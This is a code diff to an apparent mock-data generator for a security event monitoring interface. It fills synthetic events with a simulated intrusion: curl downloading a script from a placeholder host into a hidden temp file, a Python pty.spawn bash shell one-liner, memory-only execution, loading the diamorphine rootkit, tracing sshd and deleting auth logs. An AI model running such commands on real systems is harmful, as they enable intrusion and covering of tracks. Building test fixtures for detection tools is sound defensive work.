@@ -39,6 +39,16 @@ const BINARIES = [
   "/usr/bin/apt-get",
 ];
 
+const ARGUMENTS: Readonly<Record<string, string>> = {
+  "/usr/bin/curl": "-fsSL https://updates.example.net/x.sh -o /tmp/.x",
+  "/usr/sbin/nginx": "-g daemon off;",
+  "/usr/bin/bash": "-c /opt/backup/run.sh",
+  "/usr/bin/python3.11": "-c import pty; pty.spawn('/bin/bash')",
+  "/usr/lib/postgresql/16/bin/postgres": "-D /var/lib/postgresql/16/main",
+  "/usr/sbin/cron": "-f",
+  "/usr/bin/apt-get": "update",
+};
+
 function message(kind: EventKind, binary: string, r: Seeded): string {
   const name = binary.split("/").at(-1);
   // The few kinds worth a sentence of their own here; the rest say their title.
@@ -49,21 +59,35 @@ function message(kind: EventKind, binary: string, r: Seeded): string {
     case "process_exit":
       return `${name} ended with code ${r.pick([0, 0, 0, 1, 2])}`;
     case "network_connect":
-      return `${name} connected to 93.184.216.${r.int(2, 240)}:443 (updates.example.net)`;
+      return `${name} connected to 198.51.100.${r.int(2, 240)}:443 (updates.example.net)`;
     case "network_close":
-      return `${name} closed 93.184.216.34:443 after 1.2 s, 4.1 KiB sent, 88 KiB received`;
+      return `${name} closed 198.51.100.34:443 after 1.2 s, 4.1 KiB sent, 88 KiB received`;
     case "network_accept":
       return `${name} accepted 10.20.4.${r.int(2, 240)}:51234`;
     case "dns_query":
       return `${name} asked for updates.example.net (A)`;
     case "dns_response":
-      return `${name} was told that updates.example.net is 93.184.216.34`;
+      return `${name} was told that updates.example.net is 198.51.100.34`;
     case "file_open":
       return `${name} opened /etc/passwd for reading`;
     case "file_write":
       return `${name} opened /etc/shadow for writing`;
     case "setuid":
       return `${name} changed its user id from 33 to 0`;
+    case "exec_memfd":
+      return `${name} executed /memfd:kworker (deleted) from memory`;
+    case "memfd_create":
+      return `${name} created the anonymous file “kworker”`;
+    case "kernel_module":
+      return `${name} loaded the kernel module diamorphine from /tmp/.x/diamorphine.ko`;
+    case "process_ptrace":
+      return `${name} attached to sshd (pid ${r.int(700, 900)}) to trace it`;
+    case "file_delete":
+      return `${name} removed /var/log/auth.log`;
+    case "namespace_change":
+      return `${name} entered the mount and network namespaces of another process`;
+    case "process_exec_burst":
+      return `${name} was started ${r.int(12, 90)} times within a second by bash`;
     case "engine_loss":
       return `${r.int(40, 2400)} events were lost in the kernel: ring buffer full`;
     default:
@@ -87,9 +111,7 @@ export function makeRow(n: number, fleet: readonly SensorDetail[], atMs: number)
     ingested_at: iso(atMs + 240),
     message: message(kind, binary, r),
     process_executable: binary,
-    process_arguments: binary.endsWith("curl")
-      ? "-fsSL https://updates.example.net/x.sh -o /tmp/.x"
-      : "--config /etc/main.conf",
+    process_arguments: ARGUMENTS[binary] ?? "",
     pid: binary ? r.int(900, 64_000) : 0,
     uid: r.pick([0, 33, 1000]),
     exec_id: binary ? `bm9kZTox${r.hex(12)}OjEyMw==` : "",
@@ -118,7 +140,7 @@ export function makeDetail(row: EventRow): EventDetail {
       gid: 33,
       auid: 1000,
       binary: row.process_executable,
-      comm: "curl",
+      comm: (row.process_executable.split("/").at(-1) ?? "").slice(0, 15),
       argv: [row.process_executable, ...row.process_arguments.split(" ")],
       cwd: "/var/www/html/uploads",
       start_time_us: (Date.parse(row.observed_at) - 4000) * 1000,
@@ -157,7 +179,7 @@ export function makeDetail(row: EventRow): EventDetail {
             direction: "outbound" as const,
             local_addr: "10.20.4.17",
             local_port: 51_234,
-            remote_addr: "93.184.216.34",
+            remote_addr: "198.51.100.34",
             remote_port: 443,
             dns_hostname: "updates.example.net",
             bytes_sent: 4210,
@@ -173,7 +195,7 @@ export function makeDetail(row: EventRow): EventDetail {
             query: "updates.example.net",
             qtype: "A",
             rcode: "NOERROR",
-            answers: [{ name: "updates.example.net", type: "A", ttl: 300, data: "93.184.216.34" }],
+            answers: [{ name: "updates.example.net", type: "A", ttl: 300, data: "198.51.100.34" }],
           },
         }
       : {}),
